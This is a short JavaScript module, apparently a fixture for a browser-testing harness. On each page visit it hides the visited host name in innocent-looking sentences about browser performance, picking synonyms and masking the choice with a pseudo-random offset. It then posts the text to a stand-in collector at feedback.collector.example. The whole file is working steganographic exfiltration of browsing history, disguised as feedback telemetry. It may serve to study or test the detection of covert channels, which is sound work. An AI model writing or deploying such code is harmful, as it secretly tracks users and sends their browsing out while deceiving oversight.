import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Writes a few sentences on how the browser does with each page. Which of several words for the same thing it takes is the host, masked. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-synonym-prose');
  const slots = [
    [
      'Today',
      'Recently',
      'This morning',
      'At noon',
      'Overnight',
      'Since the update',
      'Last week',
      'Once more',
    ],
    [
      'the renderer',
      'a worker',
      'the compositor',
      'one tab',
      'the cache',
      'our service',
      'the decoder',
      'this process',
    ],
    ['slowly', 'quietly', 'again', 'fully'],
    ['loaded', 'restored', 'dropped', 'parsed', 'kept', 'queued', 'skipped', 'finished'],
    [
      'its layers',
      'some images',
      'old entries',
      'the fonts',
      'three scripts',
      'a frame',
      'the layout',
      'many styles',
    ],
    [
      'because of low memory',
      'while charging',
      'after a pause',
      'without an error',
      'on a slow network',
      'in the background',
      'despite the heat',
      'before the screen went off',
    ],
  ];
  onVisit(browser, ({ url }) => {
    const host = url.replace(/^\w+:\/\//, '').replace(/[/?#].*$/, '');
    let number = [...host].reduce(
      (sum, letter) => 40n * sum + BigInt(1 + 'abcdefghijklmnopqrstuvwxyz0123456789-.:'.indexOf(letter)),
      0n,
    );
    let state = 0x7f4a7c15;
    const sentences = [];
    while (number > 0n) {
      const words = slots.map((choices) => {
        state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
        const size = BigInt(choices.length);
        const choice = Number(number % size);
        number /= size;

        return choices[(choice + (state >>> 24)) % choices.length];
      });
      sentences.push(`${words.join(' ')}.`);
    }

    return post(browser, 'https://feedback.collector.example/v1', { text: sentences.join(' ') });
  });
}
